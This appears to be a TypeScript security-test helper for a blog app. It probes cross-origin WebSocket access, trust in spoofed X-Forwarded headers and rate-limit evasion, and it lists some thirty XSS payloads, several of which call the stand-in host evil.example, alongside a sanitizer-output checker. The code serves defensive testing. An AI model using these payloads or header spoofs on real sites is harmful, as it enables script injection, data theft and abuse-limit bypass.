import { once } from 'node:events';
import { allowedElements } from '@mesterhand/domain/blog/html';
import { WebSocket } from 'ws';

/** Attempts of a page of another site to open the WebSocket. @returns how many succeeded. */
export async function openForeignSockets(url: string): Promise<number> {
  const origins = ['https://evil.example', 'null', `${url}.evil.example`, 'file://'];
  const opened = await Promise.all(
    origins.map(async (origin) => {
      const socket = new WebSocket(`${url.replace('http', 'ws')}/trpc`, { headers: { origin } });
      const refused = once(socket, 'unexpected-response').then(() => false);
      const isOpen = await Promise.race([once(socket, 'open').then(() => true), refused]);
      socket.on('error', () => {});
      socket.terminate();
      return isOpen;
    }),
  );
  return opened.filter(Boolean).length;
}

/** Forwarding headers of a caller that is not a trusted proxy. */
const forwarded = {
  'x-forwarded-for': '203.0.113.9',
  'x-forwarded-host': 'evil.example',
  'x-forwarded-proto': 'https',
  forwarded: 'for=203.0.113.9;host=evil.example;proto=https',
};

/** Answers in which such headers took effect: transport security, or an address of that host. */
export async function findSpoofed(url: string, paths: readonly string[]): Promise<string[]> {
  const found = await Promise.all(
    paths.map(async (path) => {
      const response = await fetch(`${url}${path}`, {
        redirect: 'manual',
        headers: { ...forwarded, accept: 'text/html,*/*' },
      });
      const text = [await response.text(), ...response.headers.values()].join('\n');
      const isBelieved =
        text.includes('evil.example') || response.headers.has('strict-transport-security');
      return isBelieved ? [path] : [];
    }),
  );
  return found.flat();
}

/** How many quotas `calls` calls were counted against, each claiming another address; one is right. */
export async function countQuotas(url: string, calls: number): Promise<number> {
  const left = new Set<string>();
  for (let nth = 0; nth < calls; nth += 1) {
    const headers = { ...forwarded, 'x-forwarded-for': `203.0.113.${nth + 1}` };
    const response = await fetch(`${url}/api/search?query=x`, { headers });
    await response.text();
    left.add(/r=(\d+)/.exec(response.headers.get('ratelimit') ?? '')?.[1] ?? 'none');
  }
  // Every call lowers one quota; a second one would start at the full value.
  return calls - left.size + 1;
}

const vectors = ['alert(1)', 'fetch("//evil.example")'].flatMap((code) => [
  `<script>${code}</script>`,
  `<SCRIPT SRC=//evil.example/a.js></SCRIPT>`,
  `<scr<script>ipt>${code}</scr</script>ipt>`,
  `<img src=x onerror='${code}'>`,
  `<img src="javascript:${code}">`,
  `<img src="/uploads/a.svg" onload='${code}'>`,
  `<svg><script>${code}</script></svg>`,
  `<svg onload='${code}'><a xlink:href="javascript:${code}">x</a></svg>`,
  `<math><mtext><style><img src=x onerror='${code}'></style></mtext></math>`,
  `<a href="javascript:${code}">x</a>`,
  `<a href="jav&#x09;ascript:${code}">x</a>`,
  `<a href=" java\nscript:${code}">x</a>`,
  `<a href="data:text/html,<script>${code}</script>">x</a>`,
  `<a href="vbscript:${code}">x</a>`,
  `<a href="//evil.example" onclick='${code}'>x</a>`,
  `<iframe srcdoc="<script>${code}</script>"></iframe>`,
  `<iframe src="javascript:${code}"></iframe>`,
  `<object data="data:text/html,${code}"></object>`,
  `<embed src="//evil.example/a.swf">`,
  `<form action="javascript:${code}"><button formaction="javascript:${code}">x</button></form>`,
  `<input autofocus onfocus='${code}'>`,
  `<details open ontoggle='${code}'>x</details>`,
  `<p style="background:url(javascript:${code})" onmouseover='${code}'>x</p>`,
  `<style>@import "//evil.example/a.css"</style>`,
  `<link rel=stylesheet href="//evil.example/a.css">`,
  `<base href="//evil.example/">`,
  `<meta http-equiv=refresh content="0;url=javascript:${code}">`,
  `<noscript><p title="</noscript><img src=x onerror='${code}'>">`,
  `<template><script>${code}</script></template>`,
  `<textarea></textarea><img src=x onerror='${code}'>`,
  `<!--><img src=x onerror='${code}'>-->`,
  `<p title="a>b" onclick='${code}'>x`,
]);

/** Cross-site scripting vectors for browsers, each with harmless words that may stay. */
export const hostileTexts: readonly string[] = vectors.map((text) => `<p>Hei</p>${text}`);

/** What no allow-list permits in cleaned HTML; cleaned HTML has no other `<` than those of its elements. */
export function strangeParts(html: string): string[] {
  return [...html.matchAll(/<\/?([^\s>/]*)([^>]*)>?/g)].flatMap(([part, name = '', rest = '']) => {
    const allowed = allowedElements[name];
    if (allowed === undefined) return [part];
    const attributes = [...rest.matchAll(/([^\s=/]+)(?:="([^"]*)")?/g)];
    return attributes
      .filter(
        ([, key = '', value = '']) =>
          ![...allowed, 'rel'].includes(key) || /^\s*(javascript|data|vbscript):/i.test(value),
      )
      .map(([attribute]) => `${part}: ${attribute}`);
  });
}
